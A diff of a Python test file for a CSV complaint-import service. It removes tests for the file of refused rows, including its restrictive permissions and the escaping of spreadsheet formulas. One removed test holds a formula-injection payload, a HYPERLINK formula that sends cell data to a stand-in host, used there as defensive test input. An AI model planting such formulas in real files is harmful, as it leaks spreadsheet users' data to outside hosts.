@@ -1,9 +1,7 @@
 """Taking a file in: every row is accounted for, and nothing is kept that was not meant to be."""
 
-import csv
 import os
 import shutil
-import stat
 from collections import Counter
 from collections.abc import Callable, Mapping, Sequence
 from dataclasses import dataclass, field
@@ -15,11 +13,11 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from asn_neutral import locale
-from asn_neutral.errors import UnreadableFileError, UnwritableError
+from asn_neutral.errors import UnreadableFileError
 from asn_neutral.intake.columns import KEYS
 from asn_neutral.services import door
 from asn_neutral.services.check_register import check_register
-from asn_neutral.services.import_file import REASONS_KEPT, ImportOrder, ImportResult, import_file
+from asn_neutral.services.import_file import ImportOrder, ImportResult, import_file
 from tests.complaints_file import Row, ask, csv_text, desk, dump, nip, row, take, write
 
 BAD = {"tanggal_terima": "2024-02-30"}
@@ -40,12 +38,6 @@ def batches_of(monkeypatch: pytest.MonkeyPatch) -> Batches:
 def codes(result: ImportResult) -> list[tuple[int, str, str]]:
     """Row, column and code of every refusal."""
     return [(number, problem.column, problem.code) for number, problem in result.reasons]
-
-
-def refused_rows(path: Path) -> list[dict[str, str]]:
-    """The file of refused rows, read back."""
-    with path.open(encoding="utf-8-sig", newline="") as text:
-        return list(csv.DictReader(text))
 
 
 # ---- all of it, some of it, nothing
@@ -334,70 +326,6 @@ def test_what_is_noticed_stays_with_the_case(register: Path, tmp_path: Path) -> 
     assert ask(register, "SELECT count(*) FROM employees") == [(3,)]
 
 
-# ---- the file of refused rows
-
-
-def test_refused_rows_stand_beside_the_file_with_their_reasons_and_can_be_mended(
-    register: Path, tmp_path: Path
-) -> None:
-    file = write(tmp_path / "kiriman.csv", row(1), row(2, **BAD), row(3), row(4, nip="123"))
-    done = take(register, file, accept_partial=True)
-    assert done.refused_file == tmp_path / "kiriman.ditolak.csv"
-    assert stat.S_IMODE(done.refused_file.stat().st_mode) == 0o600
-    rows = refused_rows(done.refused_file)
-    assert [(cells["tolak_baris"], cells["tolak_kolom"], cells["tolak_kode"]) for cells in rows] == [
-        ("3", "tanggal_terima", "E_TANGGAL"),
-        ("5", "nip", "E_NIP_PANJANG"),
-    ]
-    assert [cells["nama_terlapor"] for cells in rows] == ["Warga Contoh 2", "Warga Contoh 4"]
-    text = done.refused_file.read_text("utf-8-sig").replace("2024-02-30", "2024-10-08").replace("123", nip(4), 1)
-    done.refused_file.write_bytes(text.encode())
-    mended = take(register, done.refused_file)
-    assert (mended.read, mended.accepted, mended.refused) == (2, 2, 0), codes(mended)
-    again = take(register, write(file, *(row(number) for number in range(1, 5))))
-    assert (again.accepted, again.unchanged, again.refused) == (0, 4, 0)
-
-
-def test_an_older_file_of_refused_rows_is_never_replaced(register: Path, tmp_path: Path) -> None:
-    file = write(tmp_path / "kiriman.csv", row(2, **BAD))
-    names = [take(register, file).refused_file for _ in range(3)]
-    assert [path.name for path in names if path] == [
-        "kiriman.ditolak.csv", "kiriman.ditolak-2.csv", "kiriman.ditolak-3.csv",
-    ]  # fmt: skip
-
-
-@pytest.mark.parametrize("name", ["kiriman.csv", "register.db", "alt.csv"])
-def test_nor_any_other_file_that_is_there(register: Path, tmp_path: Path, name: str) -> None:
-    file = write(tmp_path / "kiriman.csv", row(1), row(2, **BAD))
-    (tmp_path / "alt.csv").write_text("being mended", "utf-8")
-    before = (tmp_path / name).read_bytes()
-    order = ImportOrder(str(file), accept_partial=True, refused_file=tmp_path / name)
-    with pytest.raises(UnwritableError):
-        import_file(order, desk(register))
-    assert (tmp_path / name).read_bytes() == before
-    assert ask(register, "SELECT count(*) FROM cases") == [(0,)]
-
-
-def test_nothing_is_stored_when_the_refused_rows_cannot_be_written(register: Path, tmp_path: Path) -> None:
-    before = register.read_bytes()
-    file = write(tmp_path / "kiriman.csv", row(1), row(2, **BAD))
-    order = ImportOrder(str(file), accept_partial=True, refused_file=tmp_path / "none" / "x.csv")
-    with pytest.raises(UnwritableError):
-        import_file(order, desk(register))
-    assert register.read_bytes() == before
-
-
-def test_formulas_are_guarded_there_and_read_back_as_they_were(register: Path, tmp_path: Path) -> None:
-    formula = '=HYPERLINK("http://x/?"&A1)'
-    done = take(register, write(tmp_path / "kiriman.csv", row(1, uraian=formula, **BAD)))
-    assert done.refused_file is not None
-    (cells,) = refused_rows(done.refused_file)
-    assert cells["uraian"] == f"'{formula}"
-    done.refused_file.write_text(done.refused_file.read_text("utf-8-sig").replace("2024-02-30", "2024-10-08"), "utf-8")
-    assert take(register, done.refused_file).accepted == 1
-    assert ask(register, "SELECT summary FROM complaints") == [(formula,)]
-
-
 # ---- what a file can be
 
 
@@ -458,14 +386,6 @@ def test_progress_is_told_batch_by_batch(register: Path, tmp_path: Path, batches
     file = write(tmp_path / "in.csv", *(row(number) for number in range(5)))
     import_file(ImportOrder(str(file)), desk(register), progress=told.append)
     assert told[:2] == [2, 4]
-
-
-def test_reasons_are_kept_up_to_a_number_and_counted_beyond_it(register: Path, tmp_path: Path) -> None:
-    done = take(register, write(tmp_path / "in.csv", *(row(number, **BAD) for number in range(30))))
-    assert len(done.reasons) == REASONS_KEPT
-    assert done.codes == {"E_TANGGAL": 30}
-    assert done.refused_file is not None
-    assert len(refused_rows(done.refused_file)) == 30
 
 
 def test_every_column_of_a_file_ends_where_it_belongs(register: Path, tmp_path: Path) -> None:
